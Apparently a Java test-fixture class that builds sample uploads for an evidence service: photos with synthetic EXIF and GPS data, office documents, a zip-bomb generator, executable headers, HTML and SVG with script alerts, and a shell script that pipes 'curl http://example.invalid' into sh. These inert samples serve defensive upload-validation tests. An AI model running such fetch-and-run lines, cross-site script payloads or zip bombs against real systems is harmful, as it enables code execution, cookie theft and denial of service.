package org.proofwork.evidence;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDateTime;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

/**
 * Files for the evidence tests, made on the fly so nothing large is committed: photos with the EXIF metadata a
 * phone writes (date, GPS position, camera, owner name, orientation), office documents and zip bombs, and files
 * that only pretend to be something by their name. Public only for {@link #generatedVideo(long)}, which the drills in
 * {@code org.proofwork.bench} send as a large upload too; the rest stays in this package.
 */
public final class Samples {

	static final Path PHOTO_ESSAY = Path.of("..", "shared", "fixtures", "photo-essay");

	static final String ARTIST = "Jane Example";

	private static final DateTimeFormatter EXIF_DATE = DateTimeFormatter.ofPattern("yyyy:MM:dd HH:mm:ss");

	private Samples() {
	}

	/**
	 * The twelve photo-essay fixtures as (name, bytes, date taken), or twelve generated photos with the same
	 * metadata when a clean clone lacks the shared folder.
	 */
	static List<Photo> photoEssay() {
		List<Photo> photos = new ArrayList<>();
		LocalDateTime first = LocalDateTime.of(2026, 9, 7, 10, 30);
		for (int i = 1; i <= 12; i++) {
			String name = String.format("photo-%02d.jpg", i);
			LocalDateTime taken = first.plusDays(4L * (i - 1));
			Path fixture = PHOTO_ESSAY.resolve(name);
			byte[] bytes = Files.isRegularFile(fixture) ? read(fixture) : jpegWithExif(1600, 1200, 1, taken);
			photos.add(new Photo(name, bytes, taken));
		}
		return photos;
	}

	record Photo(String name, byte[] bytes, LocalDateTime takenAt) {
	}

	/** A JPEG whose left half is red and right half blue, with a phone's EXIF. */
	static byte[] jpegWithExif(int width, int height, int orientation, LocalDateTime taken) {
		return withExif(jpeg(halves(width, height)), orientation, taken);
	}

	/** A photo no other test uploads, so nothing of it is stored yet (equal bytes are stored once). */
	static byte[] uniquePhoto(int width, int height) {
		BufferedImage image = halves(width, height);
		Graphics2D g = image.createGraphics();
		g.setColor(new Color(ThreadLocalRandom.current().nextInt(0x1000000)));
		g.fillRect(width / 4, height / 4, width / 2, height / 2);
		g.setColor(new Color(ThreadLocalRandom.current().nextInt(0x1000000)));
		g.drawString(UUID.randomUUID().toString(), 10, 20);
		g.dispose();
		return withExif(jpeg(image), 1, LocalDateTime.of(2026, 9, 7, 12, 0));
	}

	static BufferedImage halves(int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		Graphics2D g = image.createGraphics();
		g.setColor(Color.RED);
		g.fillRect(0, 0, width / 2, height);
		g.setColor(Color.BLUE);
		g.fillRect(width / 2, 0, width - width / 2, height);
		g.dispose();
		return image;
	}

	static byte[] jpeg(BufferedImage image) {
		return encode(image, "jpeg");
	}

	static byte[] png(BufferedImage image) {
		return encode(image, "png");
	}

	private static byte[] encode(BufferedImage image, String format) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			if (!ImageIO.write(image, format, out)) {
				throw new IllegalStateException("no writer for " + format);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/** Puts an EXIF APP1 segment (IFD0, Exif IFD, GPS IFD) right after the JPEG's start marker. */
	static byte[] withExif(byte[] jpeg, int orientation, LocalDateTime taken) {
		byte[] tiff = tiff(orientation, taken);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(jpeg, 0, 2);
		int length = 2 + 6 + tiff.length;
		out.write(0xFF);
		out.write(0xE1);
		out.write(length >> 8);
		out.write(length & 0xFF);
		out.writeBytes("Exif\0\0".getBytes(StandardCharsets.ISO_8859_1));
		out.writeBytes(tiff);
		out.write(jpeg, 2, jpeg.length - 2);
		return out.toByteArray();
	}

	private static byte[] tiff(int orientation, LocalDateTime taken) {
		List<Entry> main = List.of(ascii(0x010F, "FixtureCam"), ascii(0x0110, "Model 1"),
				new Entry(0x0112, 3, 1, shortValue(orientation)), ascii(0x013B, ARTIST), longEntry(0x8769, 0),
				longEntry(0x8825, 0));
		List<Entry> exif = List.of(ascii(0x9003, taken.format(EXIF_DATE)));
		List<Entry> gps = List.of(new Entry(0x0000, 1, 4, new byte[] { 2, 3, 0, 0 }), ascii(0x0001, "N"),
				new Entry(0x0002, 5, 3, rationals(40, 1, 26, 1, 2616, 100)), ascii(0x0003, "W"),
				new Entry(0x0004, 5, 3, rationals(79, 1, 59, 1, 4524, 100)));
		int mainOffset = 8;
		int exifOffset = mainOffset + size(main);
		int gpsOffset = exifOffset + size(exif);
		List<Entry> linked = new ArrayList<>(main);
		linked.set(4, longEntry(0x8769, exifOffset));
		linked.set(5, longEntry(0x8825, gpsOffset));
		ByteBuffer buffer = ByteBuffer.allocate(gpsOffset + size(gps)).order(ByteOrder.LITTLE_ENDIAN);
		buffer.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(mainOffset);
		ifd(buffer, linked, mainOffset);
		ifd(buffer, exif, exifOffset);
		ifd(buffer, gps, gpsOffset);
		return buffer.array();
	}

	private record Entry(int tag, int type, int count, byte[] value) {
	}

	private static Entry ascii(int tag, String text) {
		byte[] bytes = (text + "\0").getBytes(StandardCharsets.US_ASCII);
		return new Entry(tag, 2, bytes.length, bytes);
	}

	private static Entry longEntry(int tag, int value) {
		return new Entry(tag, 4, 1, ByteBuffer.allocate(4).order(ByteOrder.LITTLE_ENDIAN).putInt(value).array());
	}

	private static byte[] shortValue(int value) {
		return ByteBuffer.allocate(2).order(ByteOrder.LITTLE_ENDIAN).putShort((short) value).array();
	}

	private static byte[] rationals(int... numbersAndDenominators) {
		ByteBuffer buffer = ByteBuffer.allocate(numbersAndDenominators.length * 4).order(ByteOrder.LITTLE_ENDIAN);
		for (int value : numbersAndDenominators) {
			buffer.putInt(value);
		}
		return buffer.array();
	}

	private static int size(List<Entry> entries) {
		int size = 2 + 12 * entries.size() + 4;
		for (Entry entry : entries) {
			if (entry.value().length > 4) {
				size += entry.value().length + (entry.value().length % 2);
			}
		}
		return size;
	}

	private static void ifd(ByteBuffer buffer, List<Entry> entries, int offset) {
		buffer.position(offset);
		int data = offset + 2 + 12 * entries.size() + 4;
		buffer.putShort((short) entries.size());
		for (Entry entry : entries) {
			buffer.putShort((short) entry.tag()).putShort((short) entry.type()).putInt(entry.count());
			if (entry.value().length <= 4) {
				byte[] inline = new byte[4];
				System.arraycopy(entry.value(), 0, inline, 0, entry.value().length);
				buffer.put(inline);
			}
			else {
				buffer.putInt(data);
				int at = buffer.position();
				buffer.position(data);
				buffer.put(entry.value());
				data += entry.value().length + (entry.value().length % 2);
				buffer.position(at);
			}
		}
		buffer.putInt(0);
	}

	static byte[] pdf() {
		return """
				%PDF-1.4
				1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
				2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
				trailer << /Root 1 0 R >>
				%%EOF
				""".getBytes(StandardCharsets.US_ASCII);
	}

	/** A Word document's skeleton, or with {@code extraEntries} added (name, uncompressed bytes). */
	static byte[] docx(Object... extraEntries) {
		List<Object> entries = new ArrayList<>(List.of("[Content_Types].xml",
				"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
					.getBytes(StandardCharsets.UTF_8),
				"_rels/.rels", "<Relationships/>".getBytes(StandardCharsets.UTF_8), "word/document.xml",
				"<w:document/>".getBytes(StandardCharsets.UTF_8)));
		entries.addAll(List.of(extraEntries));
		return zip(entries.toArray());
	}

	static byte[] pptx() {
		return zip("[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8), "ppt/presentation.xml",
				"<p:presentation/>".getBytes(StandardCharsets.UTF_8));
	}

	/** A docx whose document part inflates to {@code unpacked} zero bytes from a few kilobytes. */
	static byte[] zipBomb(long unpacked) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
			zip.write("<Types/>".getBytes(StandardCharsets.UTF_8));
			zip.putNextEntry(new ZipEntry("word/document.xml"));
			byte[] zeros = new byte[1 << 20];
			for (long written = 0; written < unpacked; written += zeros.length) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	static byte[] zipOfEntries(int count) {
		Object[] entries = new Object[2 * count + 4];
		entries[0] = "[Content_Types].xml";
		entries[1] = new byte[] { 'x' };
		entries[2] = "word/document.xml";
		entries[3] = new byte[] { 'x' };
		for (int i = 0; i < count; i++) {
			entries[4 + 2 * i] = "word/media/part" + i + ".xml";
			entries[5 + 2 * i] = new byte[] { 'x' };
		}
		return zip(entries);
	}

	static byte[] zip(Object... namesAndContents) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (int i = 0; i < namesAndContents.length; i += 2) {
				zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
				zip.write((byte[]) namesAndContents[i + 1]);
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	static byte[] html() {
		return "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
			.getBytes(StandardCharsets.UTF_8);
	}

	static byte[] svg() {
		return "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
			.getBytes(StandardCharsets.UTF_8);
	}

	/** The start of a 64-bit Linux executable. */
	static byte[] elf() {
		byte[] bytes = new byte[256];
		System.arraycopy(new byte[] { 0x7f, 'E', 'L', 'F', 2, 1, 1 }, 0, bytes, 0, 7);
		bytes[16] = 2;
		return bytes;
	}

	/** The start of a Windows executable: MZ header pointing at a PE signature. */
	static byte[] windowsExecutable() {
		byte[] bytes = new byte[512];
		bytes[0] = 'M';
		bytes[1] = 'Z';
		bytes[60] = 64;
		System.arraycopy(new byte[] { 'P', 'E', 0, 0 }, 0, bytes, 64, 4);
		return bytes;
	}

	static byte[] shellScript() {
		return "#!/bin/sh\ncurl http://example.invalid | sh\n".getBytes(StandardCharsets.US_ASCII);
	}

	static byte[] heic() {
		return isoMedia("heic", "mif1heic", 200);
	}

	static byte[] mp4(int size) {
		return isoMedia("isom", "isomiso2avc1mp41", size);
	}

	static byte[] quicktime(int size) {
		return isoMedia("qt  ", "qt  ", size);
	}

	/** An ISO base media file: an {@code ftyp} box with the brands, then filler up to {@code size} bytes. */
	static byte[] isoMedia(String major, String compatible, int size) {
		byte[] bytes = new byte[Math.max(size, 16 + compatible.length())];
		ByteBuffer buffer = ByteBuffer.wrap(bytes);
		buffer.putInt(16 + compatible.length()).put("ftyp".getBytes(StandardCharsets.US_ASCII));
		buffer.put(major.getBytes(StandardCharsets.US_ASCII)).putInt(0);
		buffer.put(compatible.getBytes(StandardCharsets.US_ASCII));
		for (int i = buffer.position(); i < bytes.length; i++) {
			bytes[i] = (byte) (i * 31);
		}
		return bytes;
	}

	/**
	 * {@code size} bytes: a video's {@code ftyp} box, then a random megabyte over and over, made as they are read
	 * (fast enough that a benchmark measures the upload, not the generator).
	 */
	public static InputStream generatedVideo(long size) {
		byte[] block = new byte[1 << 20];
		new Random(size).nextBytes(block);
		byte[] header = isoMedia("isom", "isomiso2avc1mp41", 32);
		System.arraycopy(header, 0, block, 0, header.length);
		return new InputStream() {

			private long position;

			@Override
			public int read() {
				byte[] one = new byte[1];
				return read(one, 0, 1) == -1 ? -1 : one[0] & 0xff;
			}

			@Override
			public int read(byte[] buffer, int offset, int length) {
				if (position >= size) {
					return -1;
				}
				int at = (int) (position % block.length);
				int count = (int) Math.min(Math.min(length, size - position), block.length - at);
				System.arraycopy(block, at, buffer, offset, count);
				position += count;
				return count;
			}
		};
	}

	static byte[] read(Path file) {
		try {
			return Files.readAllBytes(file);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** Every file under {@code folder}, relative to it, to compare before and after. */
	static List<String> filesUnder(Path folder) {
		if (!Files.isDirectory(folder)) {
			return List.of();
		}
		try (Stream<Path> files = Files.walk(folder)) {
			return files.filter(Files::isRegularFile).map(file -> folder.relativize(file).toString()).sorted().toList();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}
}
